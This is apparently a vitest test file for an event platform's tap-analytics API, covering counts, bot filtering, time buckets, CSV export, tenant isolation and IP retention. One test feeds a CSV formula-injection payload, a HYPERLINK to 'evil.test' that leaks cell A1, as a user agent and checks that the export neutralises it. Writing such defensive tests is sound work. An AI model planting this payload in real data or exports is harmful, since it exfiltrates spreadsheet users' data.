import { restoreFormula } from '@sparkmotion/shared/csv/formula-guard';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import { PHONE_USER_AGENT, useTestCloud } from '../../test/support/index.ts';

let clock = Date.parse('2026-07-01T12:00:00Z');
let liveUrl = '';

const tc = useTestCloud({ now: () => new Date(clock) });

beforeAll(async () => {
  const { rows } = await tc.db.query<{ url: string; starts_at: Date }>(
    `select url, starts_at from event_windows where event_id = $1 and kind = 'LIVE'`,
    [tc.demo.eventId],
  );
  liveUrl = rows[0]!.url;
  // 2 taps in one minute and 1 the next, by 2 bands, plus a chat preview and an orphan.
  const start = rows[0]!.starts_at.getTime() + 60_000;
  const taps: Array<[number, string, string]> = [
    [start, tc.demo.bandIds[0]!, PHONE_USER_AGENT],
    [start + 1000, tc.demo.bandIds[0]!, PHONE_USER_AGENT],
    [start + 60_000, tc.demo.bandIds[1]!, PHONE_USER_AGENT],
    [start + 61_000, tc.demo.bandIds[1]!, 'WhatsApp/2.23.20.0 A'],
    [start + 62_000, 'ZZZZZZZZZZZZZZZZ', PHONE_USER_AGENT],
  ];
  for (const [at, bandId, ua] of taps) {
    clock = at;
    await fetch(`${tc.url}/e?bandId=${bandId}`, { redirect: 'manual', headers: { 'user-agent': ua } });
  }
  await tc.cloud.taps.drain();
});

describe('tap analytics', () => {
  test('counts people, not previews: summary, top bands and per window', async () => {
    const input = { orgId: tc.demo.orgId, eventId: tc.demo.eventId };
    expect(await tc.client.analytics.summary.query(input)).toEqual({
      taps: 3,
      uniqueBands: 2,
      bots: 1,
      rateLimited: 0,
      byMode: { LIVE: 3 },
    });
    expect((await tc.client.analytics.summary.query({ ...input, includeFlagged: true })).taps).toBe(4);
    const top = await tc.client.analytics.topBands.query(input);
    expect(top.map((b) => [b.bandId, b.taps])).toEqual([
      [tc.demo.bandIds[0], 2],
      [tc.demo.bandIds[1], 1],
    ]);
    const windows = await tc.client.analytics.perWindow.query(input);
    expect(windows.find((w) => w.kind === 'LIVE')).toMatchObject({ url: liveUrl, taps: 3, uniqueBands: 2 });
    expect(windows.find((w) => w.kind === 'PRE')).toMatchObject({ taps: 0 });
  });

  test('buckets taps by minute in the event’s timezone, split by mode', async () => {
    const result = await tc.client.analytics.tapsOverTime.query({
      orgId: tc.demo.orgId,
      eventId: tc.demo.eventId,
      bucket: 'minute',
    });
    expect(result.timezone).toBe('Europe/Berlin');
    expect(result.series.map((s) => s.taps)).toEqual([2, 1]);
    expect(result.series.every((s) => s.mode === 'LIVE')).toBe(true);
    // Local wall-clock time of the first tap's minute.
    const first = await tc.db.query(
      `select to_char(date_trunc('minute', min(tapped_at) at time zone 'Europe/Berlin'), 'YYYY-MM-DD"T"HH24:MI:SS') as local
       from tap_log where event_id = $1`,
      [tc.demo.eventId],
    );
    expect(result.series[0]!.bucket).toBe(first.rows[0].local);
  });

  test('live counters from Redis match what landed in TapLog', async () => {
    const live = await tc.client.analytics.live.query({ orgId: tc.demo.orgId, eventId: tc.demo.eventId });
    expect(live.source).toBe('redis');
    const totals = live.minutes.reduce<Record<string, number>>((sum, m) => {
      for (const [k, n] of Object.entries(m.counts)) sum[k] = (sum[k] ?? 0) + n;
      return sum;
    }, {});
    expect(totals).toEqual({ LIVE: 3, bot: 1 });
    expect(live.uniqueBands).toBe(2);
  });

  test('exports raw taps as CSV page by page, each tap once', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: { csv: string; nextCursor: string | null } = await tc.client.analytics.exportCsv.query({
        orgId: tc.demo.orgId,
        eventId: tc.demo.eventId,
        limit: 1,
        cursor,
      });
      const records = parse(page.csv, { columns: pages === 0 ? true : headerColumns }) as Array<Record<string, string>>;
      for (const r of records) seen.push(r.tap_id!);
      cursor = page.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(seen).toHaveLength(4);
    expect(new Set(seen).size).toBe(4);
  });

  test("writes a tap's user agent that a spreadsheet would run as a formula inert, and it reads back as sent", async () => {
    const ua = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for your prize")';
    clock += 5000;
    const res = await fetch(`${tc.url}/e?bandId=${tc.demo.bandIds[3]}`, {
      redirect: 'manual',
      headers: { 'user-agent': ua },
    });
    await tc.cloud.taps.drain();
    const input = { orgId: tc.demo.orgId, eventId: tc.demo.eventId, limit: 1000 };
    const { csv } = await tc.client.analytics.exportCsv.query(input);
    const line = csv.split('\n').find((l) => l.startsWith(res.headers.get('x-tap-id')!))!;
    expect(line.endsWith(`"'=HYPERLINK(""https://evil.test/?leak=""&A1,""Click for your prize"")"`)).toBe(true);
    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
    const row = records.find((r) => r.tap_id === res.headers.get('x-tap-id'))!;
    expect(row.user_agent).toBe(`'${ua}`);
    expect(restoreFormula(row.user_agent!)).toBe(ua);
  });

  test('keeps other organizations out', async () => {
    const stranger = await tc.newUser();
    await expect(
      stranger.caller.analytics.summary({ orgId: tc.demo.orgId, eventId: tc.demo.eventId }),
    ).rejects.toThrow();
  });

  test('stores IPs as the organization chooses, and erases them after its retention', async () => {
    const owner = await tc.caller();
    expect(await owner.analytics.privacy({ orgId: tc.demo.orgId })).toEqual({
      ipMode: 'ANONYMIZED',
      retentionDays: 30,
      rawRetentionDays: 90,
    });
    await owner.analytics.setPrivacy({ orgId: tc.demo.orgId, ipMode: 'NONE', retentionDays: 7 });
    clock += 5000;
    const res = await fetch(`${tc.url}/e?bandId=${tc.demo.bandIds[2]}`, { redirect: 'manual' });
    await tc.cloud.taps.drain();
    const { rows } = await tc.db.query('select ip from tap_log where id = $1', [res.headers.get('x-tap-id')]);
    expect(rows[0].ip).toBeNull();
  });
});

const headerColumns = [
  'tap_id',
  'tapped_at',
  'band_id',
  'outcome',
  'mode',
  'window_id',
  'redirect_url',
  'country',
  'device_type',
  'os',
  'browser',
  'is_bot',
  'rate_limited',
  'ip',
  'user_agent',
];
